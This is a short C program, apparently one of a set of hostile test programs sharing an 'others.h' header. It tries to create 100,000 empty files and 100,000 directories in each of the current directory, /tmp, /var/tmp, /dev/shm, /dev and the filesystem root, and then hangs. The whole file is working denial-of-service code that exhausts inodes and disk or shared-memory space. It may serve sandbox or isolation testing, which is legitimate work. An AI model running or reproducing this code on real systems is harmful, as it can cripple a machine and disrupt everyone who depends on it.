/* 100 000 empty files, and as many folders, in every place that takes them. */
#include "others.h"

static void litters(const char *folder)
{
    char path[256];
    for (int n = 0; n < 100000; n++) {
        snprintf(path, sizeof path, "%s/f-%d", folder, n);
        int fd = open(path, O_WRONLY | O_CREAT, 0600);
        if (fd == -1)
            return;
        close(fd);
        snprintf(path, sizeof path, "%s/d-%d", folder, n);
        mkdir(path, 0700);
    }
}

int main(void)
{
    static const char *const folders[] = {".",        "/tmp", "/var/tmp",
                                          "/dev/shm", "/dev", "/"};
    announces(listens());
    for (size_t i = 0; i < sizeof folders / sizeof *folders; i++)
        litters(folders[i]);
    hangs();
}
